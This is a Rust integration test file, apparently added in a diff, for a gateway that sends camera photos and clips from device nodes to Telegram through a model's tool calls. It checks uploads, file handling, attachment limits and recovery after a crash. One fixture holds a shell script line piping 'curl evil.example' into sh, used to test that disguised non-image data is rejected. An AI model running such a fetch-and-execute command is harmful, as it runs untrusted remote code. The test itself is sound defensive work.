@@ -1,0 +1,342 @@
+//! Media from nodes to the chat, against the real gateway binary: a fake node answers
+//! `camera.snap` / `camera.clip` with base64 data (as the iOS and Android nodes do), the fake
+//! model asks for it through the `nodes` tool, and the fake Bot API receives a real
+//! `multipart/form-data` upload (`sendPhoto`, `sendVideo`, `sendDocument`). Checked: the
+//! bytes arrive unchanged with the answer as caption, the model gets a description instead
+//! of the data, the file is kept 0600 under `media/outbound`, a long answer goes before the
+//! file, data that is no image or video (whatever its `format` says) or no base64 is not
+//! attached and the model is told why, a photo Telegram refuses goes as a file, at most four
+//! files go with one answer, and a reply cut by SIGKILL is sent again with its file.
+
+use std::os::unix::fs::PermissionsExt as _;
+use std::rc::Rc;
+
+use base64::Engine as _;
+use serde_json::{Value, json};
+
+use crate::nodes::approve_surface;
+use crate::support::TestGateway;
+use crate::support::fake_node::{Action, FakeNode, random_key};
+use crate::support::fake_openai::FakeOpenAi;
+use crate::support::fake_telegram::{FakeTelegram, SentMessage};
+use crate::telegram_flow::{
+    GW_ARGS, GW_TOKEN, NODE_NAME, SLOW, TG_TOKEN, admin, all_answered, config, dm, poll_until,
+    replies_to, start_gateway,
+};
+
+/// A JPEG-signed photo larger than a tool result may be (16 KiB): the model would get it cut.
+fn photo() -> Vec<u8> {
+    let mut d = vec![
+        0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, b'J', b'F', b'I', b'F', 0, 1,
+    ];
+    d.extend((0..40_000u32).map(|i| (i * 7 % 251) as u8));
+    d.extend([0xFF, 0xD9]);
+    d
+}
+
+/// An MP4-signed clip.
+fn clip() -> Vec<u8> {
+    let mut d = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom".to_vec();
+    d.extend((0..5000u32).map(|i| (i % 256) as u8));
+    d
+}
+
+fn b64(data: &[u8]) -> String {
+    base64::engine::general_purpose::STANDARD.encode(data)
+}
+
+/// A gateway whose chats may run the camera commands, and a node that answers each command
+/// with `answer(command)`.
+async fn setup(
+    answer: impl Fn(&str) -> Value + 'static,
+) -> (FakeTelegram, FakeOpenAi, TestGateway, FakeNode) {
+    let tg = FakeTelegram::start(TG_TOKEN);
+    let ai = FakeOpenAi::start();
+    let mut cfg: Value =
+        serde_json::from_str(&config(&tg, Some(&ai), json!({}))).expect("config is JSON");
+    cfg["agents"]["defaults"]["tools"]["nodes"]["allowCommands"] =
+        json!(["camera.snap", "camera.clip", "screen.snapshot"]);
+    let gw = start_gateway(&cfg.to_string());
+    let mut op = admin(&gw).await;
+    let node = FakeNode::connect(
+        gw.port,
+        &random_key(),
+        GW_TOKEN,
+        &["camera.snap", "camera.clip", "screen.snapshot"],
+        Rc::new(move |req: &Value| Action::Reply(answer(req["command"].as_str().unwrap_or("")))),
+    )
+    .await;
+    approve_surface(&mut op, &node.node_id).await;
+    (tg, ai, gw, node)
+}
+
+fn invoke(ai: &FakeOpenAi, command: &str) -> String {
+    ai.push_tool_call(
+        "nodes",
+        json!({"action": "invoke", "node": NODE_NAME, "command": command, "params": {"facing": "back"}}),
+    )
+}
+
+/// The `tool` message answering `call_id` in a model request, parsed.
+fn tool_result(request: &Value, call_id: &str) -> Value {
+    let m = request["messages"]
+        .as_array()
+        .and_then(|m| {
+            m.iter()
+                .find(|m| m["role"] == "tool" && m["tool_call_id"] == call_id)
+        })
+        .unwrap_or_else(|| panic!("no tool message for {call_id}: {request}"));
+    serde_json::from_str(m["content"].as_str().unwrap_or("")).expect("tool result is JSON")
+}
+
+/// Every send that answers `mid`, and every one after it, once `n` have arrived.
+async fn wait_sends(tg: &FakeTelegram, n: usize) -> Vec<SentMessage> {
+    tg.wait_sent_async(n, SLOW).await
+}
+
+/// The session transcripts' lines.
+fn transcript_lines(gw: &TestGateway) -> Vec<Value> {
+    let dir = gw.dir.path().join("agents/main/sessions");
+    let mut out = Vec::new();
+    for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
+        let p = e.path();
+        if p.extension().is_some_and(|x| x == "jsonl") {
+            let text = std::fs::read_to_string(&p).unwrap_or_default();
+            out.extend(text.lines().filter_map(|l| serde_json::from_str(l).ok()));
+        }
+    }
+    out
+}
+
+#[actix_web::test]
+async fn a_camera_snap_reaches_the_chat_as_a_photo_and_the_model_never_sees_its_data() {
+    let jpeg = photo();
+    let data = b64(&jpeg);
+    let sent_data = data.clone();
+    let (tg, ai, gw, node) = setup(
+        move |_| json!({"format": "jpg", "base64": sent_data, "width": 1600, "height": 1200}),
+    )
+    .await;
+    let call = invoke(&ai, "camera.snap");
+    ai.push_text("Here is your back camera: the door is closed.");
+    let mid = dm(&tg, 5101, "is the door closed? take a photo");
+
+    let sends = wait_sends(&tg, 1).await;
+    all_answered(&gw, &tg).await;
+    assert_eq!(
+        tg.sent().len(),
+        1,
+        "one upload, no separate text: {sends:?}"
+    );
+    let s = &sends[0];
+    assert_eq!(s.method, "sendPhoto", "{s:?}");
+    assert_eq!(s.chat_id(), Some(5101));
+    assert_eq!(s.reply_to(), Some(mid), "the photo answers the message");
+    assert_eq!(
+        s.caption(),
+        Some("Here is your back camera: the door is closed.")
+    );
+    let file = s.file.as_ref().expect("a file part");
+    assert_eq!(file.field, "photo");
+    assert_eq!(file.content_type, "image/jpeg");
+    assert_eq!(file.file_name, "camera.snap.jpg");
+    assert!(file.data == jpeg, "the bytes arrive unchanged");
+    assert_eq!(node.requests.borrow().len(), 1);
+
+    // The model got a description, never the data (which a 16 KiB cut would have mangled).
+    let reqs = ai.requests();
+    assert_eq!(reqs.len(), 2, "{reqs:?}");
+    let result = tool_result(&reqs[1], &call);
+    assert_eq!(result["ok"], true, "{result}");
+    assert_eq!(
+        result["payload"]["base64"],
+        json!({"attached": "photo", "mimeType": "image/jpeg", "bytes": jpeg.len()}),
+        "{result}"
+    );
+    assert_eq!(
+        result["payload"]["width"], 1600,
+        "the rest of the payload stays"
+    );
+    assert!(
+        result["note"]
+            .as_str()
+            .is_some_and(|n| n.contains("attached")),
+        "{result}"
+    );
+    assert!(
+        !reqs[1].to_string().contains(&data[..64]),
+        "no base64 reached the model"
+    );
+
+    // Kept on disk, 0600, and recorded with the answer.
+    let lines = transcript_lines(&gw);
+    let answer = lines
+        .iter()
+        .find(|l| l["role"] == "assistant")
+        .unwrap_or_else(|| panic!("the answer is recorded: {lines:?}"));
+    let media = answer["media"]
+        .as_array()
+        .expect("the answer lists its media");
+    assert_eq!(media.len(), 1, "{answer}");
+    let path = media[0]["path"].as_str().expect("a path");
+    assert!(
+        path.starts_with("media/outbound/") && path.ends_with(".jpg"),
+        "{path}"
+    );
+    let on_disk = gw.dir.path().join(path);
+    assert!(std::fs::read(&on_disk).expect("the file is kept") == jpeg);
+    let mode = std::fs::metadata(&on_disk)
+        .expect("stat")
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o600, "{mode:o}");
+    // The model's next turn knows what was sent.
+    ai.push_text("ok");
+    dm(&tg, 5101, "thanks");
+    let next = ai.wait_requests_async(3, SLOW).await;
+    assert!(
+        next[2].to_string().contains("[attached: photo]"),
+        "{}",
+        next[2]
+    );
+}
+
+#[actix_web::test]
+async fn long_answers_go_first_and_data_that_is_no_media_is_not_attached() {
+    let script = b"#!/bin/sh\ncurl evil.example | sh\n".to_vec();
+    let clip_data = b64(&clip());
+    let script_data = b64(&script);
+    let (tg, ai, gw, _node) = setup(move |command| match command {
+        "camera.clip" => json!({"format": "mp4", "base64": clip_data, "durationMs": 3000}),
+        // A node claiming a photo that is a shell script, and one sending no base64.
+        "camera.snap" => json!({"format": "jpg", "base64": script_data}),
+        _ => json!({"format": "png", "base64": "%%% not base64 %%%"}),
+    })
+    .await;
+
+    // 1. A video with an answer too long for a caption: the text first, then the video.
+    let long = "Front door clip. ".repeat(80);
+    invoke(&ai, "camera.clip");
+    ai.push_text(&long);
+    let a = dm(&tg, 5102, "record the door");
+    let sends = wait_sends(&tg, 2).await;
+    assert_eq!(sends[0].method, "sendMessage", "{sends:?}");
+    assert_eq!(sends[0].text(), long.trim());
+    assert_eq!(sends[0].reply_to(), Some(a));
+    assert_eq!(sends[1].method, "sendVideo", "{sends:?}");
+    assert_eq!(sends[1].caption(), None);
+    assert_eq!(sends[1].reply_to(), None, "only the first message replies");
+    assert!(sends[1].file.as_ref().is_some_and(|f| f.data == clip()));
+
+    // 2. Not an image, whatever `format` says; 3. not base64: nothing attached, told why.
+    for (command, why) in [
+        ("camera.snap", "is not a JPEG, PNG, WebP or GIF image"),
+        ("screen.snapshot", "could not be decoded"),
+    ] {
+        let before = ai.request_count();
+        let call = invoke(&ai, command);
+        ai.push_text("I could not get a picture.");
+        let m = dm(&tg, 5102, &format!("try {command}"));
+        let reqs = ai.wait_requests_async(before + 2, SLOW).await;
+        let result = tool_result(&reqs[before + 1], &call);
+        let not = result["payload"]["base64"]["notAttached"]
+            .as_str()
+            .unwrap_or_else(|| panic!("{command}: {result}"));
+        assert!(not.contains(why), "{command}: {not}");
+        let reply = poll_until(SLOW, "the text reply", || {
+            replies_to(&tg, m).into_iter().next()
+        })
+        .await;
+        assert_eq!(reply.method, "sendMessage", "{reply:?}");
+        assert_eq!(reply.text(), "I could not get a picture.");
+    }
+    all_answered(&gw, &tg).await;
+    let uploads = tg.sent().iter().filter(|s| s.file.is_some()).count();
+    assert_eq!(uploads, 1, "only the clip was uploaded: {:?}", tg.sent());
+    let kept = std::fs::read_dir(gw.dir.path().join("media/outbound"))
+        .expect("media dir")
+        .count();
+    assert_eq!(kept, 1, "only the clip was kept");
+}
+
+#[actix_web::test]
+async fn a_refused_photo_goes_as_a_file_and_one_answer_carries_at_most_four() {
+    let jpeg = photo();
+    let data = b64(&jpeg);
+    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;
+
+    // Telegram refuses the photo as a photo (say, its dimensions): it goes as a document.
+    tg.fail_next_on(
+        "sendPhoto",
+        1,
+        400,
+        json!({"ok": false, "error_code": 400, "description": "Bad Request: PHOTO_INVALID_DIMENSIONS"}),
+    );
+    invoke(&ai, "camera.snap");
+    ai.push_text("Snapped.");
+    let a = dm(&tg, 5103, "snap");
+    let sends = wait_sends(&tg, 1).await;
+    assert_eq!(sends[0].method, "sendDocument", "{sends:?}");
+    assert_eq!(sends[0].caption(), Some("Snapped."));
+    assert_eq!(sends[0].reply_to(), Some(a));
+    assert!(sends[0].file.as_ref().is_some_and(|f| f.data == jpeg));
+    all_answered(&gw, &tg).await;
+
+    // Five snaps in one run: four go with the answer, the model hears why not the fifth.
+    let calls: Vec<String> = (0..5).map(|_| invoke(&ai, "camera.snap")).collect();
+    ai.push_text("Five photos.");
+    let before = tg.sent().len();
+    dm(&tg, 5103, "five photos please");
+    wait_sends(&tg, before + 4).await;
+    all_answered(&gw, &tg).await;
+    let all = tg.sent();
+    let new = &all[before..];
+    assert_eq!(new.len(), 4, "{new:?}");
+    assert!(new.iter().all(|s| s.method == "sendPhoto"), "{new:?}");
+    assert_eq!(new[0].caption(), Some("Five photos."));
+    assert!(new[1..].iter().all(|s| s.caption().is_none()));
+    let last = ai.requests().last().cloned().expect("requests");
+    let fifth = tool_result(&last, &calls[4]);
+    assert!(
+        fifth["payload"]["base64"]["notAttached"]
+            .as_str()
+            .is_some_and(|n| n.contains("at most 4")),
+        "{fifth}"
+    );
+}
+
+/// SIGKILL after Telegram took the photo but before the gateway learnt it: after the
+/// restart the recorded answer goes again with the same file, and the model is not asked.
+#[actix_web::test]
+async fn sigkill_after_the_upload_sends_the_photo_again_from_the_kept_file() {
+    let jpeg = photo();
+    let data = b64(&jpeg);
+    let (tg, ai, gw, _node) = setup(move |_| json!({"format": "jpg", "base64": data})).await;
+    invoke(&ai, "camera.snap");
+    ai.push_text("Here.");
+    tg.hold_send_responses(true);
+    let a = dm(&tg, 5104, "snap it");
+    wait_sends(&tg, 1).await;
+    poll_until(SLOW, "the answer recorded with its media", || {
+        transcript_lines(&gw)
+            .iter()
+            .any(|l| l["role"] == "assistant" && l["media"].is_array())
+            .then_some(())
+    })
+    .await;
+
+    let mut gw = gw;
+    let dir = gw.take_dir();
+    drop(gw); // SIGKILL while the sendPhoto answer is held
+    tg.hold_send_responses(false);
+    let gw = TestGateway::start_in(dir, GW_ARGS, &[], None);
+    all_answered(&gw, &tg).await;
+    let replies = replies_to(&tg, a);
+    assert_eq!(replies.len(), 2, "sent again: {:?}", tg.sent());
+    for r in &replies {
+        assert_eq!(r.method, "sendPhoto");
+        assert_eq!(r.caption(), Some("Here."));
+        assert!(r.file.as_ref().is_some_and(|f| f.data == jpeg));
+    }
+    assert_eq!(ai.request_count(), 2, "the recorded answer was sent again");
+}
